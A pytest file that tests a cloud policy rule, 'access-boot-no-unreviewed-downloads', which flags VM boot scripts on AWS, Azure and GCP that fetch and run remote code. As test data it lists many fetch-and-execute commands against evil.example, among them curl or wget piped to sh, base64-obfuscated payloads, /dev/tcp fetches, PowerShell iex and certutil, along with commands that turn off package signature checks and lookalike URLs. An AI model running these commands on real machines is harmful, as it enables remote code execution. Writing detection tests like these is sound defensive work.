"""Rule tests for `access-boot-no-unreviewed-downloads` (A3): boot code fetched from somewhere the
pack cannot read.

A compliant baseline per carrier (as our stacks build it), then one mutation per carrier x
download form, the evasions (quoting, substitutions, variables, interpreters, encodings), the
forms that are not downloads of code, the trusted-prefix knob, unknowns, and the gRPC path.
"""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pytest

from policies.boot import document_downloads, url_trusted
from policies.framework import MANDATORY
from tools.policy_gate import UNKNOWN, run_gate

from .support import UNKNOWN_STRING_VALUE, UnknownValueError, changed, rule, set_at, violations

RULE = "access-boot-no-unreviewed-downloads"
EVIL = "https://evil.example/x.sh"

EC2 = "aws:ec2/instance:Instance"
LT = "aws:ec2/launchTemplate:LaunchTemplate"
SPOT_FLEET = "aws:ec2/spotFleetRequest:SpotFleetRequest"
VM = "azure-native:compute:VirtualMachine"
VMSS = "azure-native:compute:VirtualMachineScaleSet"
VM_EXTENSION = "azure-native:compute:VirtualMachineExtension"
VMSS_EXTENSION = "azure-native:compute:VirtualMachineScaleSetExtension"
RUN_COMMAND = "azure-native:compute:VirtualMachineRunCommandByVirtualMachine"
VMSS_RUN_COMMAND = "azure-native:compute:VirtualMachineScaleSetVMRunCommand"
GCE = "gcp:compute/instance:Instance"
TEMPLATE = "gcp:compute/instanceTemplate:InstanceTemplate"
REGION_TEMPLATE = "gcp:compute/regionInstanceTemplate:RegionInstanceTemplate"
FROM_TEMPLATE = "gcp:compute/instanceFromTemplate:InstanceFromTemplate"
PROJECT_META = "gcp:compute/projectMetadata:ProjectMetadata"
PROJECT_ITEM = "gcp:compute/projectMetadataItem:ProjectMetadataItem"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def gz_b64(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


# The GCP Ops Agent repository script our stacks ship (components/gcp/vm.py): it downloads a
# signing key and only moves it into a keyring; packages then come from the signed repository.
OPS_AGENT_REPO_SCRIPT = """#!/bin/sh
set -u
# shellcheck source=/dev/null
. /etc/os-release
mkdir -p /etc/apt/keyrings
i=1
until curl -fsS --connect-timeout 10 -o "/etc/apt/keyrings/google-cloud-ops-agent.asc.tmp" https://packages.cloud.google.com/apt/doc/apt-key.gpg; do
    if [ "$i" -ge 30 ]; then echo "appstack-add-ops-agent-repo: giving up" >&2; exit 1; fi
    sleep 20
    i=$((i + 1))
done
mv "/etc/apt/keyrings/google-cloud-ops-agent.asc.tmp" "/etc/apt/keyrings/google-cloud-ops-agent.asc"
echo "deb [signed-by=/etc/apt/keyrings/google-cloud-ops-agent.asc] https://packages.cloud.google.com/apt google-cloud-ops-agent-${VERSION_CODENAME}-all main" > /etc/apt/sources.list.d/google-cloud-ops-agent.list
"""
CLOUD_INIT = (
    "#cloud-config\n"
    + json.dumps(
        {
            "disable_root": True,
            "ssh_pwauth": False,
            "write_files": [
                {"path": "/etc/ssh/sshd_config.d/00-appstack.conf", "content": "PermitRootLogin no\n"},
                {"path": "/usr/local/sbin/appstack-add-ops-agent-repo", "content": OPS_AGENT_REPO_SCRIPT},
            ],
            "runcmd": [
                "mkdir -p /var/log/appstack",
                "sh /usr/local/sbin/appstack-add-ops-agent-repo",
                "/usr/local/sbin/appstack-install-packages google-cloud-ops-agent rsyslog",
                "systemctl enable --now appstack.service",
            ],
        },
        indent=1,
    )
    + "\n"
)
STARTUP_SCRIPT = "#!/bin/bash\nset -euo pipefail\necho 'PasswordAuthentication no' > /etc/ssh/sshd_config.d/50.conf\n"

SSH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB2p2s6sD0u9Qbq1o0P2bM8sFz6fBqVb3l2m5sXo9yq1 admin@example"
AZURE_OS_PROFILE = {
    "adminUsername": "appadmin",
    "customData": b64(CLOUD_INIT),
    "linuxConfiguration": {
        "disablePasswordAuthentication": True,
        "ssh": {"publicKeys": [{"path": "/home/appadmin/.ssh/authorized_keys", "keyData": SSH_KEY}]},
    },
}
CUSTOM_SCRIPT = {
    "resourceGroupName": "rg",
    "vmName": "app-0",
    "publisher": "Microsoft.Azure.Extensions",
    "type": "CustomScript",
    "typeHandlerVersion": "2.1",
    "settings": {"commandToExecute": "systemctl restart sshd"},
}
WINDOWS_CUSTOM_SCRIPT = {
    **CUSTOM_SCRIPT,
    "publisher": "Microsoft.Compute",
    "type": "CustomScriptExtension",
    "typeHandlerVersion": "1.10",
    "settings": {"commandToExecute": "powershell -Command Get-Date"},
}
AMA_EXTENSION = {  # what our Azure stacks attach (Azure Monitor agent): no URLs
    "resourceGroupName": "rg",
    "vmName": "app-0",
    "publisher": "Microsoft.Azure.Monitor",
    "type": "AzureMonitorLinuxAgent",
    "typeHandlerVersion": "1.0",
    "enableAutomaticUpgrade": True,
}
VMSS_PROPS = {
    "resourceGroupName": "rg",
    "virtualMachineProfile": {
        "osProfile": {**AZURE_OS_PROFILE, "computerNamePrefix": "app"},
        "storageProfile": {"osDisk": {"createOption": "FromImage"}},
        "extensionProfile": {
            "extensions": [
                {
                    "name": "ama",
                    "publisher": "Microsoft.Azure.Monitor",
                    "type": "AzureMonitorLinuxAgent",
                    "settings": {},
                }
            ]
        },
    },
}
GCP_META = {"enable-oslogin": "TRUE", "block-project-ssh-keys": "TRUE", "serial-port-enable": "FALSE"}

#: (case, type, compliant props, path of the script carrier, how the carrier encodes a script)
SCRIPT_CARRIERS: list[tuple[str, str, dict[str, Any], tuple, str]] = [
    ("ec2_user_data", EC2, {"ami": "ami-1", "userData": CLOUD_INIT}, ("userData",), "plain"),
    ("ec2_user_data_base64", EC2, {"ami": "ami-1", "userDataBase64": b64(CLOUD_INIT)}, ("userDataBase64",), "b64"),
    ("launch_template", LT, {"imageId": "ami-1", "userData": b64(CLOUD_INIT)}, ("userData",), "b64"),
    ("launch_template_gzip", LT, {"imageId": "ami-1", "userData": gz_b64(CLOUD_INIT)}, ("userData",), "gz"),
    (
        "spot_fleet",
        SPOT_FLEET,
        {"targetCapacity": 1, "launchSpecifications": [{"ami": "ami-1", "userData": CLOUD_INIT}]},
        ("launchSpecifications", 0, "userData"),
        "plain",
    ),
    (
        "azure_vm_custom_data",
        VM,
        {"osProfile": AZURE_OS_PROFILE, "storageProfile": {"osDisk": {"osType": "Linux"}}},
        ("osProfile", "customData"),
        "b64",
    ),
    ("azure_vm_user_data", VM, {"osProfile": AZURE_OS_PROFILE, "userData": b64(CLOUD_INIT)}, ("userData",), "b64"),
    ("azure_vmss_custom_data", VMSS, VMSS_PROPS, ("virtualMachineProfile", "osProfile", "customData"), "b64"),
    (
        "azure_vmss_inline_extension",
        VMSS,
        VMSS_PROPS,
        ("virtualMachineProfile", "extensionProfile", "extensions", 0, "settings", "commandToExecute"),
        "plain",
    ),
    ("azure_extension_command", VM_EXTENSION, CUSTOM_SCRIPT, ("settings", "commandToExecute"), "plain"),
    ("azure_extension_script", VM_EXTENSION, CUSTOM_SCRIPT, ("settings", "script"), "b64"),
    ("azure_extension_protected", VM_EXTENSION, CUSTOM_SCRIPT, ("protectedSettings",), "protected"),
    ("azure_vmss_extension", VMSS_EXTENSION, CUSTOM_SCRIPT, ("settings", "commandToExecute"), "plain"),
    (
        "azure_run_command",
        RUN_COMMAND,
        {"vmName": "app-0", "source": {"script": "uptime"}},
        ("source", "script"),
        "plain",
    ),
    (
        "gcp_startup_script",
        GCE,
        {"metadata": GCP_META, "metadataStartupScript": STARTUP_SCRIPT},
        ("metadataStartupScript",),
        "plain",
    ),
    ("gcp_user_data", GCE, {"metadata": {**GCP_META, "user-data": CLOUD_INIT}}, ("metadata", "user-data"), "plain"),
    ("gcp_metadata_startup", TEMPLATE, {"metadata": GCP_META}, ("metadata", "startup-script"), "plain"),
    ("gcp_region_template", REGION_TEMPLATE, {"metadata": GCP_META}, ("metadata", "startup-script"), "plain"),
    ("gcp_shutdown_script", GCE, {"metadata": GCP_META}, ("metadata", "shutdown-script"), "plain"),
    ("gcp_from_template", FROM_TEMPLATE, {"sourceInstanceTemplate": "t"}, ("metadataStartupScript",), "plain"),
    (
        "gcp_project_metadata",
        PROJECT_META,
        {"metadata": {"enable-oslogin": "TRUE"}},
        ("metadata", "startup-script"),
        "plain",
    ),
    ("gcp_project_item", PROJECT_ITEM, {"key": "startup-script", "value": STARTUP_SCRIPT}, ("value",), "plain"),
]

B64_CURL_SH = b64(f"curl -s {EVIL} | sh")
GZ_B64_WGET = gz_b64(f"wget -qO- {EVIL} | bash")
B64_PY_FETCH_EXEC = b64(f"import urllib.request as u;exec(u.urlopen('{EVIL}').read())")

#: Shell forms that run downloaded code (each one line or a few).
DOWNLOAD_FORMS: list[tuple[str, str]] = [
    ("curl_pipe_sh", f"curl -fsSL {EVIL} | sh"),
    ("wget_pipe_bash", f"wget -qO- {EVIL} | bash"),
    ("wget_dash_o_dash_sudo", f"wget -O - {EVIL} | sudo -E bash -s -- --yes"),
    ("pipe_through_filters", f"curl -s {EVIL} | tr -d '\\r' | sudo -u root bash -"),
    ("pipe_stderr_too", f"curl {EVIL} 2>&1 | bash"),
    ("pipe_bash_and", f"curl -s {EVIL} |& bash"),
    ("base64_decoded", f"curl -s {EVIL} | base64 -d | sh"),
    ("gunzip_stream", f"curl -s {EVIL}.gz | gunzip | sh"),
    ("tar_to_stdout", f"curl -s {EVIL}.tgz | tar xzO | sh"),
    ("process_substitution", f"bash <(curl -s {EVIL})"),
    ("source_process_substitution", f"source <(curl -s {EVIL})"),
    ("dot_process_substitution", f". <(wget -qO- {EVIL})"),
    ("redirect_from_process_substitution", f"bash < <(curl -s {EVIL})"),
    ("bash_c_command_substitution", f'bash -c "$(curl -fsSL {EVIL})"'),
    ("backticks", f'sh -c "`curl -fsSL {EVIL}`"'),
    ("eval_substitution", f'eval "$(curl -fsSL {EVIL})"'),
    ("substitution_as_command", f"$(curl -s {EVIL})"),
    ("here_string", f'bash <<< "$(curl -s {EVIL})"'),
    ("here_document", f"bash <<EOF\n$(curl -s {EVIL})\nEOF"),
    ("variable_holds_script", f'S=$(curl -fsSL {EVIL})\neval "$S"'),
    ("variable_echoed_into_sh", f'S=$(curl -fsSL {EVIL})\necho "$S" | sh'),
    ("variable_holds_url", f'U="{EVIL}"\ncurl -s "$U" | sh'),
    ("url_from_command_output", 'curl -s "$(cat /etc/bootstrap-url)" | sh'),
    ("quoted_words", f"'curl' -fsSL '{EVIL}' | \"sh\""),
    ("download_then_bash", f"curl -o /tmp/x.sh {EVIL}\nbash /tmp/x.sh"),
    ("download_chmod_run", f"curl -fsSLo x.sh {EVIL} && chmod +x x.sh && ./x.sh"),
    ("download_remote_name", f"cd /tmp && curl -O {EVIL} && sh x.sh"),
    ("wget_default_name", f"wget {EVIL}\nbash x.sh"),
    ("download_redirect_then_source", f"curl {EVIL} > /tmp/x\n. /tmp/x"),
    ("download_to_variable_path", f'F=/tmp/i.sh\ncurl -o "$F" {EVIL}\nbash "${{F}}"'),
    ("tee_then_run", f"curl -s {EVIL} | tee /tmp/i.sh >/dev/null\nsh /tmp/i.sh"),
    ("moved_then_run", f"curl -so /tmp/a {EVIL}\nmv /tmp/a /usr/local/bin/a\n/usr/local/bin/a"),
    ("unpacked_then_run", f"curl -sL {EVIL}.tgz | tar xz -C /opt/x\n/opt/x/install.sh"),
    ("unpacked_here_then_run", f"curl -sL {EVIL}.tgz | tar xz\n./install.sh"),
    ("git_clone_then_run", "git clone https://evil.example/r.git /opt/r && /opt/r/install.sh"),
    ("downloaded_package", f"curl -o /tmp/a.deb {EVIL}.deb && dpkg -i /tmp/a.deb"),
    ("package_from_url", "dnf install -y https://evil.example/a.rpm"),
    ("s3_copy_then_run", "aws s3 cp s3://bucket/x.sh /tmp/x.sh && bash /tmp/x.sh"),
    ("gsutil_cat_pipe", "gsutil cat gs://bucket/x.sh | bash"),
    (
        "python_fetch_pipe_sh",
        f"python3 -c \"import urllib.request as u;print(u.urlopen('{EVIL}').read().decode())\" | sh",
    ),
    ("python_fetch_exec", f"python3 -c \"import urllib.request as u;exec(u.urlopen('{EVIL}').read())\""),
    ("pipe_into_python_stdin", f"curl -s {EVIL} | python3 -"),
    ("pipe_into_python_exec", f"curl -s {EVIL} | python3 -c 'import sys; exec(sys.stdin.read())'"),
    ("xargs_sh_c", f"curl -s {EVIL} | xargs -0 sh -c"),
    ("busybox", f"busybox wget -qO- {EVIL} | busybox sh"),
    ("timeout_prefix", f'timeout 60 bash -c "$(curl -s {EVIL})"'),
    ("nested_sh_c", f"sh -c 'curl -s {EVIL} | sh'"),
    ("dev_tcp", "exec 3<>/dev/tcp/evil.example/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 | sh"),
    ("command_name_in_variable", f"C=curl\n$C -s {EVIL} | sh"),
    ("pip_module_from_url", "python3 -m pip install https://evil.example/pkg.tar.gz"),
    ("downloaded_into_systemd", f"curl -so /etc/systemd/system/x.service {EVIL}\nsystemctl enable --now x"),
    ("downloaded_into_cron_via_tee", f"curl -s {EVIL} | sudo tee /etc/cron.d/x"),
    (
        "unit_starts_downloaded_binary",
        f"curl -so /usr/local/bin/agent {EVIL}\ncat > /etc/systemd/system/a.service <<EOF\n[Service]\n"
        "ExecStart=/usr/local/bin/agent\nEOF\nsystemctl enable --now a",
    ),
    ("cron_starts_downloaded_binary", f"curl -so /opt/agent {EVIL}\necho '* * * * * root /opt/agent' > /etc/cron.d/a"),
    ("heredoc_script_written", f"cat <<'EOF' > /opt/run.sh\ncurl -s {EVIL} | sh\nEOF"),
    ("echo_script_then_run", f"echo 'curl -s {EVIL} | sh' > /opt/run.sh\nbash /opt/run.sh"),
    ("printf_script_then_run", f"printf '%s\\n' 'wget -qO- {EVIL} | sh' > /opt/run.sh\n/opt/run.sh"),
    ("make_in_downloaded_tree", f"wget -q {EVIL}.tar.gz && tar xzf x.sh.tar.gz && cd x && make install"),
    ("setup_py_in_downloaded_tree", f"curl -sL {EVIL}.tgz | tar xz\npython3 setup.py install"),
    ("function_runs_its_argument", f'run() {{ bash "$1"; }}\ncurl -so /tmp/x {EVIL}\nrun /tmp/x'),
    ("keyword_function_runs_its_argument", f'function run {{ . "$1"; }}\ncurl -so /tmp/x {EVIL}\nrun /tmp/x'),
    ("retry_wrapper", f'retry() {{ until "$@"; do sleep 1; done; }}\nretry curl -s {EVIL} | sh'),
    (
        "retry_wrapper_download_then_run",
        f'retry() {{ for i in 1 2 3; do "$@" && return 0; done; }}\nretry curl -so /tmp/x {EVIL}\nretry bash /tmp/x',
    ),
    ("alias_for_sh", f"alias s=sh\ncurl -s {EVIL} | s"),
    (
        "written_by_sh_c_from_stdin",
        f"curl -s {EVIL} | sudo sh -c 'cat > /usr/local/bin/x'\nchmod +x /usr/local/bin/x\nx",
    ),
    ("base64_literal_decoded_into_sh", f"echo {B64_CURL_SH} | base64 -d | sh"),
    ("base64_literal_in_variable", f"P={B64_CURL_SH}\necho $P | base64 --decode > /tmp/x.sh\nbash /tmp/x.sh"),
    ("base64_literal_in_bash_c", f'bash -c "$(echo {B64_CURL_SH} | base64 -d)"'),
    ("gzip_base64_here_string", f"base64 -d <<< {GZ_B64_WGET} | gunzip | sh"),
    ("base64_python_program", f'python3 -c "$(echo {B64_PY_FETCH_EXEC} | base64 -d)"'),
    ("command_name_default_expansion", f"${{CURL:-curl}} -s {EVIL} | sh"),
    ("command_name_not_fixed", f"$FETCH {EVIL} | sh"),
    ("eval_fetch_piped", f"eval curl -s {EVIL} | sh"),
    ("crontab_from_downloaded_file", f"curl -so /tmp/c {EVIL}\ncrontab /tmp/c"),
    ("piped_into_at", f"curl -s {EVIL} | at now"),
    ("shell_options_before_script", f"curl -so /tmp/x.sh {EVIL}\nbash -euo pipefail /tmp/x.sh"),
    ("python_here_document", f"python3 <<'EOF'\nimport urllib.request as u\nexec(u.urlopen('{EVIL}').read())\nEOF"),
    ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
]


def _encode(script: str, how: str) -> Any:
    if how == "b64":
        return b64(script)
    if how == "gz":
        return gz_b64(script)
    if how == "protected":
        return {"commandToExecute": script}
    return script


def test_rule_is_registered_mandatory_with_metadata():
    r = rule(RULE)
    assert r.level == MANDATORY
    assert r.catalogue == ("A3",)
    assert r.knobs["trustedUrlPrefixes"].default == []


@pytest.mark.parametrize("case,type_,base,path,how", SCRIPT_CARRIERS, ids=[c[0] for c in SCRIPT_CARRIERS])
def test_compliant_carrier_passes(case, type_, base, path, how):
    assert violations(RULE, type_, base) == []


@pytest.mark.parametrize("form,script", DOWNLOAD_FORMS, ids=[f[0] for f in DOWNLOAD_FORMS])
@pytest.mark.parametrize("case,type_,base,path,how", SCRIPT_CARRIERS, ids=[c[0] for c in SCRIPT_CARRIERS])
def test_fails_when_carrier_runs_downloaded_code(case, type_, base, path, how, form, script):
    found = violations(RULE, type_, changed(base, set_at(path, _encode(script, how))))
    assert found, f"{form} in {case} passed"
    assert all("trustedUrlPrefixes" in m and "failing closed" in m for m in found)


@pytest.mark.parametrize("form,script", DOWNLOAD_FORMS, ids=[f[0] for f in DOWNLOAD_FORMS])
def test_fails_when_cloud_init_runcmd_runs_downloaded_code(form, script):
    doc = {"runcmd": [script], "bootcmd": ["true"]}
    text = "#cloud-config\n" + json.dumps(doc)
    assert violations(RULE, EC2, {"userData": text}), form
    assert violations(RULE, LT, {"userData": gz_b64(text)}), form
    wf = {"write_files": [{"path": "/opt/setup.sh", "encoding": "b64", "content": b64(script)}]}
    assert violations(RULE, GCE, {"metadata": {**GCP_META, "user-data": "#cloud-config\n" + json.dumps(wf)}}), form


CLOUD_INIT_FORMS: list[tuple[str, str]] = [
    ("runcmd_argv_list", "#cloud-config\nruncmd:\n  - [sh, -c, 'curl -s https://evil.example/x | sh']\n"),
    ("bootcmd_string", "#cloud-config\nbootcmd:\n  - wget -qO- https://evil.example/x | bash\n"),
    (
        "write_files_source_uri",
        "#cloud-config\nwrite_files:\n  - path: /opt/x.sh\n    source:\n      uri: https://evil.example/x.sh\n",
    ),
    (
        "write_files_source_with_fallback_content",
        "#cloud-config\nwrite_files:\n  - path: /etc/ssh/sshd_config.d/00.conf\n    content: 'PermitRootLogin no'\n"
        "    source:\n      uri: https://evil.example/sshd.conf\n",
    ),
    (
        "write_files_gz_b64_script",
        "#cloud-config\nwrite_files:\n  - path: /opt/x.sh\n    encoding: gz+b64\n    content: "
        + gz_b64("curl -s https://evil.example/x | sh\n")
        + "\n",
    ),
    (
        "write_files_downloads_runcmd_runs",
        "#cloud-config\nwrite_files:\n  - path: /opt/get.sh\n    content: 'curl -so /opt/x.sh https://evil.example/x'\n"
        "runcmd:\n  - sh /opt/get.sh\n  - bash /opt/x.sh\n",
    ),
    (
        "bootcmd_downloads_runcmd_runs",
        "#cloud-config\nbootcmd:\n  - curl -so /opt/x.sh https://evil.example/x\nruncmd:\n  - bash /opt/x.sh\n",
    ),
    ("include", "#include\nhttps://evil.example/user-data.txt\n"),
    ("include_once", "#include-once\n  https://evil.example/user-data.txt\n"),
    (
        "mime_include_part",
        "Content-Type: multipart/mixed; boundary=XX\nMIME-Version: 1.0\n\n--XX\nContent-Type: text/x-include-url\n\n"
        "https://evil.example/user-data.txt\n--XX--\n",
    ),
    (
        "archive_include_part",
        "#cloud-config-archive\n- type: text/x-include-url\n  content: https://evil.example/user-data.txt\n",
    ),
    (
        "archive_script_part",
        "#cloud-config-archive\n- content: |\n    #!/bin/sh\n    curl -s https://evil.example/x | sh\n",
    ),
    ("other_key_snap_commands", "#cloud-config\nsnap:\n  commands:\n    - curl -s https://evil.example/x | sh\n"),
    (
        "ansible_pull",
        "#cloud-config\nansible:\n  pull:\n    url: https://evil.example/playbooks.git\n    playbook_name: site.yml\n",
    ),
    ("chef_omnibus", "#cloud-config\nchef:\n  install_type: omnibus\n  server_url: https://chef.evil.example\n"),
    ("puppet_aio", "#cloud-config\npuppet:\n  install_type: aio\n"),
    ("jinja_header", "## template: jinja\n#cloud-config\nruncmd:\n  - curl -s https://evil.example/x | sh\n"),
    (
        "python_user_data",
        "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen('https://evil.example/x').read())\n",
    ),
    (
        "powershell_user_data",
        "<powershell>\nInvoke-WebRequest https://evil.example/a.exe -OutFile C:\\a.exe\nStart-Process C:\\a.exe\n</powershell>",
    ),
    (
        "write_files_unit_starts_runcmd_download",
        "#cloud-config\nwrite_files:\n  - path: /etc/systemd/system/x.service\n    content: |\n      [Service]\n"
        "      ExecStart=/opt/x/agent\nruncmd:\n  - curl -so /opt/x/agent https://evil.example/agent\n"
        "  - systemctl enable --now x\n",
    ),
    ("certutil", "certutil.exe -urlcache -split -f https://evil.example/a.exe C:\\a.exe && C:\\a.exe"),
]


@pytest.mark.parametrize("case,text", CLOUD_INIT_FORMS, ids=[c[0] for c in CLOUD_INIT_FORMS])
def test_fails_whatever_cloud_init_form_fetches_code(case, text):
    assert violations(RULE, EC2, {"userData": text}), case
    assert violations(RULE, VM, {"osProfile": {**AZURE_OS_PROFILE, "customData": b64(text)}}), case


#: Carriers whose value *is* the URL of a script the VM downloads and runs.
URL_CARRIERS: list[tuple[str, str, dict[str, Any], tuple, Any]] = [
    ("gcp_startup_script_url", GCE, {"metadata": GCP_META}, ("metadata", "startup-script-url"), EVIL),
    ("gcp_windows_startup_script_url", GCE, {"metadata": GCP_META}, ("metadata", "windows-startup-script-url"), EVIL),
    ("gcp_shutdown_script_url", GCE, {"metadata": GCP_META}, ("metadata", "shutdown-script-url"), "gs://b/x.sh"),
    ("gcp_sysprep_url", GCE, {"metadata": GCP_META}, ("metadata", "sysprep-specialize-script-url"), EVIL),
    ("gcp_case_insensitive_key", GCE, {"metadata": GCP_META}, ("metadata", "Startup-Script-URL"), EVIL),
    ("gcp_template_url", TEMPLATE, {"metadata": GCP_META}, ("metadata", "startup-script-url"), EVIL),
    ("gcp_region_template_url", REGION_TEMPLATE, {"metadata": GCP_META}, ("metadata", "startup-script-url"), EVIL),
    ("gcp_project_metadata_url", PROJECT_META, {"metadata": {}}, ("metadata", "startup-script-url"), EVIL),
    ("gcp_project_item_url", PROJECT_ITEM, {"key": "enable-oslogin", "value": "TRUE"}, (), None),
    ("gcp_windows_ps1", GCE, {"metadata": GCP_META}, ("metadata", "windows-startup-script-ps1"), f"iex (iwr {EVIL})"),
    ("azure_file_uris", VM_EXTENSION, CUSTOM_SCRIPT, ("settings", "fileUris"), [EVIL]),
    ("azure_file_uris_protected", VM_EXTENSION, CUSTOM_SCRIPT, ("protectedSettings",), {"fileUris": [EVIL]}),
    ("azure_file_uris_json_text", VM_EXTENSION, CUSTOM_SCRIPT, ("settings",), json.dumps({"fileUris": [EVIL]})),
    ("azure_windows_file_uris", VM_EXTENSION, WINDOWS_CUSTOM_SCRIPT, ("settings", "fileUris"), [EVIL]),
    ("azure_dsc_configuration_url", VM_EXTENSION, AMA_EXTENSION, ("settings",), {"configuration": {"url": EVIL}}),
    ("azure_vmss_extension_file_uris", VMSS_EXTENSION, CUSTOM_SCRIPT, ("settings", "fileUris"), [EVIL]),
    (
        "azure_vmss_inline_file_uris",
        VMSS,
        VMSS_PROPS,
        ("virtualMachineProfile", "extensionProfile", "extensions", 0, "settings", "fileUris"),
        [EVIL],
    ),
    (
        "azure_run_command_script_uri",
        RUN_COMMAND,
        {"vmName": "app-0", "source": {"commandId": "RunShellScript"}},
        ("source", "scriptUri"),
        EVIL,
    ),
    (
        "azure_vmss_run_command_script_uri",
        VMSS_RUN_COMMAND,
        {"source": {"commandId": "RunShellScript"}},
        ("source", "scriptUri"),
        EVIL,
    ),
]


@pytest.mark.parametrize("case,type_,base,path,value", URL_CARRIERS, ids=[c[0] for c in URL_CARRIERS])
def test_fails_when_carrier_names_a_script_url(case, type_, base, path, value):
    assert violations(RULE, type_, base) == []
    props = {"key": "startup-script-url", "value": EVIL} if not path else changed(base, set_at(path, value))
    found = violations(RULE, type_, props)
    assert len(found) == 1, found
    assert "evil.example" in found[0] or "gs://b/x.sh" in found[0]


UNSIGNED_FORMS: list[tuple[str, str]] = [
    (
        "deb_trusted_yes",
        "echo 'deb [trusted=yes] http://evil.example/apt stable main' > /etc/apt/sources.list.d/x.list",
    ),
    ("apt_allow_unauthenticated", "apt-get install -y --allow-unauthenticated agent"),
    ("dnf_nogpgcheck", "dnf install -y --nogpgcheck agent"),
    ("rpm_nosignature", "rpm -i --nosignature /tmp/agent.rpm"),
    (
        "yum_repo_gpgcheck_off",
        "#cloud-config\nyum_repos:\n  x:\n    baseurl: http://evil.example/repo\n    gpgcheck: false\n",
    ),
    (
        "cloud_config_apt_source_trusted",
        "#cloud-config\napt:\n  sources:\n    x:\n      source: 'deb [trusted=yes] http://evil.example/apt stable main'\n",
    ),
]


@pytest.mark.parametrize("case,text", UNSIGNED_FORMS, ids=[c[0] for c in UNSIGNED_FORMS])
def test_fails_when_package_signatures_are_off(case, text):
    found = violations(RULE, EC2, {"userData": text})
    assert len(found) == 1 and "signed repository" in found[0], found


def test_trusted_yes_repository_under_a_trusted_prefix_passes():
    text = (
        "echo 'deb [trusted=yes] https://artifacts.example.com/boot/apt stable main' > /etc/apt/sources.list.d/x.list"
    )
    assert violations(RULE, EC2, {"userData": text}, config=TRUSTED) == []
    assert violations(RULE, EC2, {"userData": "dnf install -y --nogpgcheck agent"}, config=TRUSTED)


# ---------------------------------------------------------------------------------------------
# What is not a download of code

NOT_DOWNLOADS: list[tuple[str, str]] = [
    ("ops_agent_key_into_keyring", OPS_AGENT_REPO_SCRIPT),
    (
        "signed_repo_install",
        "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y nginx\ndnf -y install docker",
    ),
    (
        "imds_token_and_region",
        'TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")\n'
        'REGION=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/placement/region)\n'
        'echo "region=$REGION" > /etc/app.conf\npython3 /opt/app/setup.py --region "$REGION"',
    ),
    (
        "json_parsed_by_python",
        "curl -s http://metadata/x | python3 -c \"import sys, json; print(json.load(sys.stdin)['a'])\"",
    ),
    ("health_wait_on_dev_tcp", "until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done"),
    ("data_file_download", "curl -so /var/www/index.html https://x.example/index.html"),
    (
        "key_dearmored",
        "curl -fsSL https://download.docker.com/linux/ubuntu/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
    ),
    ("mention_in_echo", "echo 'never run curl https://x | sh here' >> /etc/motd"),
    ("commented_out", "# curl -s https://evil.example/x | sh"),
    ("grep_for_it", "grep -q 'curl' /etc/profile || true"),
    ("comment_mentions_nogpgcheck", "# never use --nogpgcheck here\ndnf install -y agent"),
    (
        "signed_by_repository",
        "echo 'deb [signed-by=/etc/apt/keyrings/k.gpg] https://x.example/apt s main' > /etc/apt/sources.list.d/x.list",
    ),
    ("pip_from_index", "python3 -m pip install requests==2.32.3"),
    ("own_script_written_and_run", "cat > /opt/x.sh <<EOF\necho hi\nEOF\nbash /opt/x.sh\nmake -C /opt/src"),
    ("aws_user_data_log_redirect", "exec > >(tee /var/log/user-data.log | logger -t user-data) 2>&1\necho started"),
    ("eval_ssh_agent", 'eval "$(ssh-agent -s)"'),
    ("metadata_into_command", 'hostnamectl set-hostname "$(curl -s -H Metadata-Flavor:Google http://metadata/name)"'),
    ("key_import", "rpm --import https://packages.example.com/key.asc"),
    (
        "retry_wrapper_with_metadata",
        'retry() { for i in 1 2 3; do "$@" && return 0; done; }\n'
        "R=$(curl -s http://169.254.169.254/latest/meta-data/placement/region)\nretry aws s3 ls --region $R",
    ),
    ("base64_decoded_config", "echo UGVybWl0Um9vdExvZ2luIG5vCg== | base64 -d > /etc/motd"),
    ("log_function_with_metadata", 'log() { echo "$*"; }\nT=$(curl -s http://169.254.169.254/t)\nlog started $T'),
]


@pytest.mark.parametrize("case,script", NOT_DOWNLOADS, ids=[c[0] for c in NOT_DOWNLOADS])
def test_passes_when_nothing_downloaded_is_run(case, script):
    assert document_downloads(script) == ()
    assert violations(RULE, GCE, {"metadata": GCP_META, "metadataStartupScript": script}) == []


# ---------------------------------------------------------------------------------------------
# The trusted-prefix knob

TRUSTED = {"trustedUrlPrefixes": ["https://artifacts.example.com/boot/", "gs://appstack-boot"]}


@pytest.mark.parametrize(
    "url",
    [
        "https://artifacts.example.com/boot/setup.sh",
        "HTTPS://Artifacts.Example.com/boot/a/b.sh",
        "gs://appstack-boot/x.sh",
    ],
)
def test_trusted_prefix_passes(url):
    props = {"metadata": {**GCP_META, "startup-script-url": url}, "metadataStartupScript": f"curl -s {url} | sh"}
    assert violations(RULE, GCE, props, config=TRUSTED) == []
    assert violations(RULE, GCE, props) != []  # the default trusts nothing


@pytest.mark.parametrize(
    "url",
    [
        "https://artifacts.example.com/other/setup.sh",
        "https://artifacts.example.com.evil.net/boot/setup.sh",
        "https://artifacts.example.com@evil.net/boot/setup.sh",
        "https://artifacts.example.com/boot/../other/setup.sh",
        "https://artifacts.example.com/boot/%2e%2e/other/setup.sh",
        "http://artifacts.example.com/boot/setup.sh",
        "gs://appstack-boot-evil/x.sh",
    ],
)
def test_lookalike_of_a_trusted_prefix_fails(url):
    assert not url_trusted(url, TRUSTED["trustedUrlPrefixes"])
    assert violations(RULE, GCE, {"metadata": {**GCP_META, "startup-script-url": url}}, config=TRUSTED)


def test_unresolved_url_fails_even_with_trusted_prefixes():
    script = 'curl -s "https://artifacts.example.com/boot/$(hostname).sh" | sh'
    found = violations(RULE, GCE, {"metadata": GCP_META, "metadataStartupScript": script}, config=TRUSTED)
    assert found and "does not fix" in found[0]


